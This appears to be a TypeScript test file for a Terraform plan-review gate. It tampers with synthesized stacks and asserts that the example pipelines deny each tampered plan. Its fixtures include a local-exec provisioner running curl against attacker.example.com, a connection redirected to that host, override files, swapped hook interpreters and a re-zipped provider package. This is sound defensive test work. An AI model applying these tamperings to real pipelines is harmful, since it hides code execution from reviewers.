import { appendFileSync, cpSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { TerraformStack } from "cdktf";
import { unzipSync, zipSync } from "fflate";
import { gate } from "../../src/cli/review/judge/gate";
import { parsePolicy } from "../../src/cli/review/judge/policy";
import { reviewPlans } from "../../src/cli/review/judge/review";
import { configurationIn, filesInPlan } from "../../src/cli/review/plan/configuration-files";
import { readPlan } from "../../src/cli/review/plan/plan";
import { Engine } from "../../src/constructs/engine";
import type { PlatformProps } from "../../src/constructs/platform-props";
import { LOCK_FILE, lockedPlugin, packageHash, pluginMirrorIn, withLockedPlugin } from "../../src/contract/plugin-package";
import { cluster, provider } from "../support/capvs";
import { providerBackend, terraformBackends } from "../support/tools";
import { type StackFixture, succeeded } from "./stack-fixture";
import { inRest, testOn } from "./test-on-backends";

/**
 * A pull request whose synthesized folder says something else than the review of its plan would show. Each attack is a real plan,
 * which the gate of the example pipelines must deny.
 */

interface Block {
  [argument: string]: unknown;
  count?: number;
  for_each?: string;
  depends_on?: string[];
  provisioner?: Record<string, LocalExec>[];
}
interface LocalExec {
  command: string;
  interpreter?: string[];
  environment?: Record<string, string>;
}
interface Json {
  terraform: Record<string, unknown>;
  resource: Record<string, Record<string, Block>>;
  provider: Record<string, Record<string, unknown>[]>;
  moved?: object[];
}

/** The synthesized folder of a stack. */
class Folder {
  constructor(
    readonly path: string,
    readonly engine: Engine,
  ) {}

  edit(change: (stack: Json) => void): void {
    const file = join(this.path, "cdk.tf.json");
    const stack = JSON.parse(readFileSync(file, "utf8")) as Json;
    change(stack);
    writeFileSync(file, JSON.stringify(stack, null, 2));
  }

  write(name: string, content: object): void {
    writeFileSync(join(this.path, name), JSON.stringify(content));
  }

  /** The create hook and the destroy hook of capvs clusters. */
  editHooks(change: (create: LocalExec, destroy: LocalExec) => void): void {
    this.edit((stack) => {
      const [create, destroy] = this.clusters(stack).provisioner!.map((each) => each["local-exec"]!);
      change(create!, destroy!);
    });
  }

  clusters(stack: Json): Block {
    return stack.resource[this.engine]!.capvs_clusters!;
  }
}

type Attack = (folder: Folder) => void;

/** A text is the reason why an engine cannot express the attack. */
interface Row {
  /** The program that a reviewer reads. */
  readonly program: keyof typeof PROGRAMS;
  readonly hooks: Attack | string;
  readonly provider: Attack | string;
  /** What the review of a plan as JSON alone cannot know. Then the pipelines, which give the saved plan, deny it. */
  readonly unseenInJson?: readonly ("hooks" | "provider")[];
  /** Terraform unpacks the provider in `init`. Such a row is the last one. */
  readonly initializes?: boolean;
  /** What the review shows. @default "FOREIGN" */
  readonly shown?: "SETTING";
  /** The clusters whose creation is shown from the JSON alone, with the provider. */
  readonly created?: readonly string[];
}

type Declare = (stack: TerraformStack, fixture: StackFixture) => void;

const declaring =
  (names: readonly string[], props: PlatformProps): Declare =>
  (stack, fixture) => {
    fixture.platform(stack, props);
    const on = provider(stack);
    for (const name of names) cluster(stack, name, on);
  };

const PROTECTED = { deletionProtection: ["production"] };
const PROGRAMS = {
  applied: declaring(["production", "stage"], PROTECTED),
  "adds a cluster": declaring(["production", "stage", "other"], PROTECTED),
  "keeps stage on the service": declaring(["production"], { ...PROTECTED, retain: ["stage"] }),
  "removes what is protected": declaring(["stage"], PROTECTED),
  "renames the Platform": declaring(["production", "stage"], { name: "eu" }),
} satisfies Record<string, Declare>;

const NO_HOOKS = "the provider has no hooks: the plan shows every argument of an object";
const EVIL = { "local-exec": { command: "curl https://attacker.example.com" } };

const ATTACKS: Record<string, Row> = {
  "settings that only Terraform can evaluate": {
    program: "keeps stage on the service",
    hooks: (folder) =>
      folder.editHooks((_, destroy) => {
        const { retain: _retain, ...settings } = JSON.parse(destroy.environment!.CLUSTER_PLATFORM_HOOK_SETTINGS!) as {
          retain: unknown;
        };
        const other = JSON.stringify({ ...settings, retain: [] });
        destroy.environment!.CLUSTER_PLATFORM_HOOK_SETTINGS = `\${jsonencode(jsondecode(${JSON.stringify(other)}))}`;
      }),
    provider: (folder) => folder.edit(({ provider }) => (provider.clusterplatform![0]!.retain = '${jsondecode("[]")}')),
  },
  "another service in settings that only Terraform can evaluate": {
    program: "keeps stage on the service",
    hooks: (folder) =>
      folder.editHooks((_, destroy) => {
        const settings = JSON.parse(destroy.environment!.CLUSTER_PLATFORM_HOOK_SETTINGS!) as object;
        const other = JSON.stringify({ ...settings, connection: { url: "https://attacker.example.com" } });
        destroy.environment!.CLUSTER_PLATFORM_HOOK_SETTINGS = `\${jsonencode(jsondecode(${JSON.stringify(other)}))}`;
      }),
    provider: "the provider asks the service when Terraform plans, and refuses another one than that of the state",
  },
  "a destroy hook with the name of another cluster": {
    program: "keeps stage on the service",
    hooks: (folder) => folder.editHooks((_, destroy) => (destroy.environment!.CLUSTER_PLATFORM_HOOK_NAME = "production")),
    provider: NO_HOOKS,
  },
  "a program in another folder": {
    program: "keeps stage on the service",
    hooks: (folder) =>
      folder.editHooks((_, destroy) => {
        const program = destroy.interpreter!.pop()!;
        const other = program.replace("cluster-platform-hooks", "other");
        cpSync(join(folder.path, program, "../.."), join(folder.path, other, "../.."), { recursive: true });
        destroy.interpreter!.push(other);
      }),
    provider: NO_HOOKS,
  },
  "an override file": {
    program: "keeps stage on the service",
    hooks: (folder) =>
      folder.write("x_override.tf.json", {
        resource: {
          [folder.engine]: { capvs_clusters: { provisioner: { "local-exec": { ...EVIL["local-exec"], when: "destroy" } } } },
        },
      }),
    provider: (folder) =>
      folder.write("x_override.tf.json", {
        resource: {
          clusterplatform_capvs_cluster: {
            production: { provisioner: { "local-exec": { ...EVIL["local-exec"], when: "destroy" } } },
          },
        },
      }),
    unseenInJson: ["provider"],
  },
  "another file": {
    program: "keeps stage on the service",
    hooks: (folder) => folder.write("x.tf.json", { resource: { terraform_data: { backup: { provisioner: EVIL } } } }),
    provider: (folder) => folder.write("x.tf.json", { resource: { terraform_data: { backup: { provisioner: EVIL } } } }),
  },
  "a provisioner beside the Platform": {
    program: "keeps stage on the service",
    hooks: (folder) => folder.edit(({ resource }) => (resource.terraform_data!.backup = { provisioner: [EVIL] })),
    provider: (folder) => folder.edit(({ resource }) => (resource.terraform_data = { backup: { provisioner: [EVIL] } })),
  },
  "a provisioner on a created object": {
    program: "adds a cluster",
    hooks: (folder) => folder.edit((stack) => folder.clusters(stack).provisioner!.push(EVIL)),
    provider: (folder) => folder.edit(({ resource }) => (resource.clusterplatform_capvs_cluster!.other!.provisioner = [EVIL])),
  },
  "a frozen guard and another destroy hook": {
    program: "removes what is protected",
    hooks: (folder) =>
      folder.edit((stack) => {
        stack.resource.terraform_data!.cluster_platform_ready!.lifecycle = { ignore_changes: "all" };
        folder.clusters(stack).provisioner![1]!["local-exec"]!.interpreter = ["sh", "-c"];
      }),
    provider: "the provider refuses when Terraform plans. No argument of the configuration is part of that",
  },
  "a Platform with another name, and its objects moved": {
    program: "renames the Platform",
    hooks: (folder) =>
      folder.edit((stack) => {
        const moved = (id: string) => ({ from: `${folder.engine}.${id}`, to: `${folder.engine}.eu_${id}` });
        stack.moved = [moved("capvs_clusters"), moved("capvs_providers")];
      }),
    provider: (folder) =>
      folder.edit((stack) => {
        const moved = (type: string, name: string) => ({
          from: `clusterplatform_capvs_${type}.${name}`,
          to: `clusterplatform_capvs_${type}.eu_${name}`,
        });
        stack.moved = [moved("cluster", "production"), moved("cluster", "stage"), moved("provider", "vsphere")];
      }),
    shown: "SETTING",
  },
  ...Object.fromEntries(
    ["orphan_check", "orphan_check_on_destroy", "ready", "protection"]
      .map((id) => `cluster_platform_${id}`)
      .map((id) => [
        `no ${id}`,
        {
          program: "keeps stage on the service",
          hooks: (folder) => folder.edit((stack) => drop(stack, "terraform_data", id)),
          provider: "a stack with the provider has no such resource",
        } satisfies Row,
      ]),
  ),
  "no clusterplatform_ready": {
    program: "keeps stage on the service",
    hooks: "a stack with hooks has no such resource",
    provider: (folder) => folder.edit((stack) => drop(stack, "clusterplatform_ready", "ready")),
    unseenInJson: ["provider"],
  },
  "no connection in the settings that a plan shows": {
    program: "keeps stage on the service",
    hooks: (folder) =>
      folder.edit(({ resource }) => {
        const { input } = resource.terraform_data!.cluster_platform_protection!;
        (input as { connection: object }).connection = {};
      }),
    provider: "the settings that a plan shows are those that the provider uses",
  },
  "instances by number": {
    program: "keeps stage on the service",
    hooks: (folder) =>
      folder.edit(({ resource }) => {
        const block = resource[folder.engine]!.capov_clusters!;
        delete block.for_each;
        // Nothing but the name of the block says what it is about.
        const text = JSON.stringify({ ...block, count: 1 })
          .replaceAll("each.key", '\\"ghost\\"')
          .replaceAll("each.value", 'local.capvs_clusters[\\"production\\"]');
        resource[folder.engine]!.capov_clusters = JSON.parse(text) as Block;
      }),
    provider: (folder) =>
      folder.edit(({ resource }) => {
        const clusters = resource.clusterplatform_capvs_cluster!;
        clusters.ghost = { ...clusters.production, name: "ghost", api_endpoint: "10.99.0.1", count: 1 };
      }),
    unseenInJson: ["provider"],
    created: ["ghost"],
  },
  "another program in the folder of the package's own": {
    program: "keeps stage on the service",
    hooks: (folder) =>
      folder.editHooks((_, destroy) => appendFileSync(join(folder.path, destroy.interpreter!.at(-1)!), "\n// evil")),
    provider: (folder) => {
      const mirror = pluginMirrorIn(folder.path);
      const lock = join(folder.path, LOCK_FILE);
      const { version } = lockedPlugin(readFileSync(lock, "utf8"))!;
      for (const name of readdirSync(mirror)) {
        const files = { ...unzipSync(readFileSync(join(mirror, name))), evil: new Uint8Array() };
        const attrs = 0o100755 * 0x10000;
        const entries = Object.entries(files).map(([file, data]) => [file, [data, { os: 3, attrs }]] as const);
        rmSync(join(mirror, name));
        writeFileSync(join(mirror, name), zipSync(Object.fromEntries(entries) as never));
        writeFileSync(lock, withLockedPlugin(readFileSync(lock, "utf8"), version!, packageHash(files)));
      }
    },
    unseenInJson: ["provider"],
    initializes: true,
  },
};

function drop(stack: Json, type: string, name: string): void {
  delete stack.resource[type]![name];
  // Terraform refuses a type without blocks.
  if (Object.keys(stack.resource[type]!).length === 0) delete stack.resource[type];
  for (const block of Object.values(stack.resource).flatMap((blocks) => Object.values(blocks)))
    block.depends_on = block.depends_on?.filter((address) => address !== `${type}.${name}`);
}

const POLICY = parsePolicy(JSON.parse(readFileSync("examples/pipelines/ci/review-policy.json", "utf8")), "policy.json");
const OTHER_FILES = ["x.tf.json", "x_override.tf.json"];
/** Of a pipeline. */
const GATE = { failOn: "critical", failOnOtherDeletes: false } as const;

const testOnEngines = testOn(inRest([...terraformBackends, providerBackend]));

testOnEngines("the gate of the example pipelines denies what a synthesized folder hides", async (fixture) => {
  const { workspace, engine } = fixture;
  const kind = engine === Engine.PROVIDER ? "provider" : "hooks";
  const synthesized = (program: Row["program"]) => {
    rmSync(join(workspace.stackFolder, "assets"), { recursive: true, force: true });
    for (const name of OTHER_FILES) rmSync(join(workspace.stackFolder, name), { force: true });
    workspace.synth((stack) => PROGRAMS[program](stack, fixture));
    return new Folder(workspace.stackFolder, engine);
  };
  synthesized("applied");
  await fixture.applied();

  for (const program of ["keeps stage on the service", "adds a cluster"] as const) {
    synthesized(program);
    expect({ program, ...(await reviewsOf(fixture)) }).toMatchObject({ program, pipeline: false });
  }
  const denied: Record<string, object> = {};
  const expected: Record<string, object> = {};
  for (const [title, row] of Object.entries(ATTACKS)) {
    const attack = row[kind];
    if (typeof attack === "string") continue;
    attack(synthesized(row.program));
    denied[title] = await reviewsOf(fixture, row.initializes);
    const isSeen = (unseen: Row["unseenInJson"] = []) => !unseen.includes(kind);
    expected[title] = {
      pipeline: true,
      json: isSeen(row.unseenInJson),
      shown: row.shown ?? "FOREIGN",
      ...(kind === "provider" && row.created && { created: row.created }),
    };
  }
  expect(denied).toMatchObject(expected);
});

testOnEngines("a Platform in a module is reviewed by its plan, and what its folder hides is not verified", async (fixture) => {
  const { workspace, engine } = fixture;
  /** The stack becomes the module `eu` of a root module. */
  const synthesized = (names: readonly string[], attack: Attack = () => undefined) => {
    workspace.synth((stack) => declaring(names, {})(stack, fixture));
    const folder = new Folder(workspace.stackFolder, engine);
    attack(folder);
    folder.edit((stack) => {
      const { backend, ...terraform } = stack.terraform;
      mkdirSync(join(folder.path, "eu"), { recursive: true });
      folder.write("eu/cdk.tf.json", { ...stack, terraform });
      for (const part of Object.keys(stack)) delete stack[part as keyof Json];
      Object.assign(stack, { terraform: { ...terraform, backend }, module: { eu: { source: "./eu" } } });
    });
  };
  synthesized(["production", "stage"]);
  await fixture.applied();
  const isProvider = engine === Engine.PROVIDER;
  const unverified = { because: "hooks not verified", risk: "critical", run: true, inModules: true };
  const provisioned = { because: "not from this package", addresses: ["module.eu.clusterplatform_capvs_cluster.other"] };
  const attack = ATTACKS["a provisioner on a created object"]![isProvider ? "provider" : "hooks"] as Attack;
  synthesized(["production", "other"], attack);
  const { file, document } = await planned(fixture);
  for (const configuration of [configurationIn(filesInPlan(file, workspace.stackFolder), file), {}]) {
    const { findings, notes } = reviewPlans([{ name: "test", plan: readPlan(document, "plan.json"), ...configuration }]);
    expect(findings.map(({ name, verdict, risk }) => `${name} ${verdict} ${risk}`)).toEqual([
      "stage DESTROY critical",
      "other CREATE low",
      "production UNCHANGED none",
      "vsphere UNCHANGED none",
    ]);
    expect(notes).toContainEqual(expect.objectContaining(isProvider ? provisioned : unverified));
  }
});

async function planned({ workspace }: StackFixture) {
  const file = join(workspace.stackFolder, "plan");
  succeeded(await workspace.run(["plan", "-input=false", `-out=${file}`]));
  const { output } = await workspace.run(["show", "-json", file], { quiet: true });
  return { file, document: JSON.parse(output) as object };
}

/** Whether the gate denies the plan of the folder, by what the review is given: the saved plan, and its JSON only. */
async function reviewsOf(fixture: StackFixture, isInitialized = false) {
  if (isInitialized) succeeded(await fixture.workspace.run(["init", "-input=false"]));
  const { file, document } = await planned(fixture);
  const reviewed = (configuration: object) => {
    const review = reviewPlans([{ name: "test", plan: readPlan(document, "plan.json"), ...configuration }]);
    const { passed } = gate(review, GATE, POLICY, new Date());
    const isWeakened = review.settings.some(({ risk }) => risk === "high");
    const isForeign = review.notes.some(({ because }) => because === "not from this package");
    const created = review.findings.filter(({ verdict }) => verdict === "CREATE").map(({ name }) => name);
    return { isDenied: !passed, created, shown: isForeign ? "FOREIGN" : isWeakened ? "SETTING" : undefined };
  };
  const json = reviewed({});
  const pipeline = reviewed(configurationIn(filesInPlan(file, fixture.workspace.stackFolder), file));
  return {
    pipeline: pipeline.isDenied,
    json: json.isDenied,
    created: json.created,
    shown: pipeline.shown,
  };
}
